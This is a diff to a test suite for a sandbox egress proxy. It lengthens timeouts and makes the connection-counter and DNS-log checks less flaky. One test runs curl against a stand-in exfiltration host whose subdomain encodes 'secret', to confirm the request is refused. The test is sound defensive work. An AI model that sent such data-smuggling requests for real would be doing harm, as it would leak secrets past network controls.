@@ -19,7 +19,7 @@ const EGRESS_PORT = 64998; /* src/spawn/egress.c: FIRST_PORT */
 const talk = (address, port, bytes) => ['python3', '-c', `
 import socket
 s = socket.socket(socket.AF_INET6 if ':' in '${address}' else socket.AF_INET)
-s.settimeout(5)
+s.settimeout(60)
 try:
     s.connect(('${address}', ${port}))
     s.sendall(${bytes})
@@ -62,8 +62,8 @@ if (inOwnNetwork(import.meta.url, 'the way out of a sandbox')) {
           assert.equal(JSON.parse(await out(id, curl(url))).url, '/a');
         assert.equal(JSON.parse(await out(id, curl('-6', 'http://web.test/'))).at, WEB6);
         assert.equal(JSON.parse(await out(id, curl('-k', 'https://web.test/'))).tls, 'web.test');
-        assert.equal(JSON.parse(await out(id, sh("head -c 3000000 /dev/zero | curl -sS -m 8 -T - http://web.test/up"))).size, 3000000);
-        assert.equal(await out(id, sh('curl -sS -m 20 http://web.test/bytes/50000000 | wc -c')), '50000000\n');
+        assert.equal(JSON.parse(await out(id, sh("head -c 3000000 /dev/zero | curl -sS -m 60 -T - http://web.test/up"))).size, 3000000);
+        assert.equal(await out(id, sh('curl -sS -m 100 http://web.test/bytes/50000000 | wc -c')), '50000000\n');
       });
 
       test('a server that speaks first is heard, and half-closed connections work', async () => {
@@ -106,9 +106,10 @@ if (inOwnNetwork(import.meta.url, 'the way out of a sandbox')) {
         const ask = (server, transport, type) => `
 import socket, struct
 q = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3web\\4test\\0' + struct.pack('>HH', ${type}, 1)
-s = socket.socket(socket.AF_INET, socket.SOCK_${transport === 'udp' ? 'DGRAM' : 'STREAM'}); s.settimeout(5); s.connect(('${server}', 53))
+s = socket.socket(socket.AF_INET, socket.SOCK_${transport === 'udp' ? 'DGRAM' : 'STREAM'}); s.settimeout(60); s.connect(('${server}', 53))
 s.send(q if '${transport}' == 'udp' else struct.pack('>H', len(q)) + q)
 r = s.recv(600)
+while '${transport}' == 'tcp' and len(r) < 2 + int.from_bytes(r[:2], 'big'): r += s.recv(600)
 r = r if '${transport}' == 'udp' else r[2:]
 print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
         for (const server of ['8.8.8.8', '192.0.0.1', PRIVATE])
@@ -119,6 +120,7 @@ print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
       });
 
       test('bytes, connections and denials are counted, for the sandbox and in the metrics', async () => {
+        await until('the connections before have ended', async () => (await egress(id)).counters.openConnections === 0);
         const before = (await egress(id)).counters;
         await out(id, sh('curl -sS -o /dev/null http://web.test/bytes/100000'));
         await until('the connection has ended', async () => (await egress(id)).counters.openConnections === 0);
@@ -152,17 +154,19 @@ print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
       });
 
       test('refuses everything else, and asks nobody about it', async () => {
-        await internet.log();
+        /* But for a question of the tests before that was put again meanwhile. */
+        const asked = async () => (await internet.log()).filter(({ question }) => !['web.test', 'a.sub.test'].includes(question));
+        await asked();
         assert.match(await fails(id, curl('http://registry.test/')), /Could not resolve/);
         assert.match(await fails(id, curl('http://c2VjcmV0.exfiltrate.test/')), /Could not resolve/);
         assert.match(await fails(id, curl('http://sub.test/')), /Could not resolve/);
-        assert.deepEqual(await internet.log(), []);
+        assert.deepEqual(await asked(), []);
         assert.equal(await out(id, curl(`http://${OTHER}/`)), 'egress: no host name told\n');
         assert.match(await fails(id, curl('-k', `https://${WEB}/`)), /reset|connect/i);
         assert.match(await fails(id, curl('-k', '--resolve', `registry.test:443:${OTHER}`, 'https://registry.test/')), /reset|connect/i);
         assert.equal(await out(id, curl('--resolve', `registry.test:80:${OTHER}`, 'http://registry.test/')), 'egress: host not allowed\n');
         assert.equal(await out(id, talk(WEB, 7777, "b'hello\\n'")), 'ERROR ConnectionResetError\n');
-        assert.deepEqual(await internet.log(), []);
+        assert.deepEqual(await asked(), []);
       });
 
       test('dials an address of the name that was told, not the one that a sandbox chose', async () => {
@@ -200,7 +204,7 @@ print(r[3] & 15, r[7], '.'.join(map(str, r[-4:])))`;
       test('lets a WebSocket through as an upgrade', async () => {
         const text = await out(id, ['python3', '-c', `
 import socket
-s = socket.create_connection(('web.test', 80), 5)
+s = socket.create_connection(('web.test', 80), 60)
 s.sendall(b'GET / HTTP/1.1\\r\\nHost: web.test\\r\\nConnection: upgrade\\r\\nUpgrade: echo\\r\\n\\r\\n')
 print(s.recv(200).split()[1].decode())
 s.sendall(b'ping'); print(s.recv(10).decode())`]);
@@ -215,7 +219,7 @@ import socket, time
 a = socket.create_connection(('${WEB}', 7777)); b = socket.create_connection(('${OTHER}', 7777))
 a.recv(99); b.recv(99)
 open('/tmp/open', 'w').close()
-b.settimeout(8)
+b.settimeout(100)
 try: text = repr(b.recv(99))
 except OSError as e: text = type(e).__name__
 a.sendall(b'still'); text += ' ' + a.recv(99).decode()
@@ -257,9 +261,9 @@ except OSError as e: print(e.strerror)`]), /unreachable/);
     test('berm sets and shows networks and policies', async () => {
       const program = path.resolve(process.env.BERM_BUILD ?? 'build', 'berm');
       const berm = (...args) => execFileSync(program, args, { encoding: 'utf8', stdio: 'pipe', env: { ...process.env, BERM_URL: daemon.url } });
-      assert.equal(JSON.parse(berm('run', '--image', 'base', '--', 'curl', '-sS', '-m', '8', 'http://web.test/')).at, WEB);
-      assert.throws(() => berm('run', '--image', 'base', '--network', 'none', '--', 'curl', '-sS', '-m', '8', `http://${WEB}/`), { status: 7 });
-      assert.throws(() => berm('run', '--image', 'base', '--egress', '{"mode":"deny"}', '--', 'curl', '-sS', '-m', '8', 'http://web.test/'), { status: 6 });
+      assert.equal(JSON.parse(berm('run', '--image', 'base', '--', 'curl', '-sS', '-m', '60', 'http://web.test/')).at, WEB);
+      assert.throws(() => berm('run', '--image', 'base', '--network', 'none', '--', 'curl', '-sS', '-m', '60', `http://${WEB}/`), { status: 7 });
+      assert.throws(() => berm('run', '--image', 'base', '--egress', '{"mode":"deny"}', '--', 'curl', '-sS', '-m', '60', 'http://web.test/'), { status: 6 });
       const id = berm('create', '--image', 'base').trim();
       berm('egress', 'set', id, '{"mode":"deny","hosts":["web.test"]}');
       assert.deepEqual(JSON.parse(berm('egress', 'show', id)).policy, { mode: 'deny', hosts: ['web.test'] });
@@ -276,9 +280,10 @@ except OSError as e: print(e.strerror)`]), /unreachable/);
         const id = await other.newId();
         const allowed = { mode: 'deny', hosts: ['web.test'] };
         assert.equal((await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base', egress: allowed }))).status, 201);
-        assert.notEqual((await other.exec(id, curl('http://web.test/'))).code, 0);
-        assert.notEqual((await other.exec(id, curl('--resolve', `web.test:80:${WEB}`, 'http://web.test/'))).code, 0);
-        assert.notEqual((await other.exec(id, curl('-k', `https://${WEB}/`))).code, 0);
+        const hopeless = (...args) => curl('-m', '8', ...args);
+        assert.notEqual((await other.exec(id, hopeless('http://web.test/'))).code, 0);
+        assert.notEqual((await other.exec(id, hopeless('--resolve', `web.test:80:${WEB}`, 'http://web.test/'))).code, 0);
+        assert.notEqual((await other.exec(id, hopeless('-k', `https://${WEB}/`))).code, 0);
       } finally {
         other.close();
         await deaf.stop();
@@ -400,16 +405,15 @@ time.sleep(10000)`;
         await other.put(`/v1/sandbox/${id}`, JSON.stringify({ image: 'base' }));
         const result = await other.exec(id, ['python3', '-c', `
 import socket
-held = [socket.create_connection(('${WEB}', 7777), 5) for _ in range(40)]
+held = [socket.create_connection(('${WEB}', 7777), 60) for _ in range(40)]
 heard = 0
-for s in held:
-    s.settimeout(0.3)
+for i, s in enumerate(held):
+    s.settimeout(60 if i < 8 else 0.3) # the first that are taken, and those that wait
     try: heard += len(s.recv(99)) > 0
     except OSError: pass
 print(heard)
 for s in held[:8]: s.close()
-held[20].settimeout(5)
-print(len(held[8].recv(99)) > 0 if held[8].settimeout(5) is None else '')`]);
+print(len(held[8].recv(99)) > 0 if held[8].settimeout(60) is None else '')`]);
         assert.equal(result.out, '8\nTrue\n', result.err);
       } finally {
         other.close();
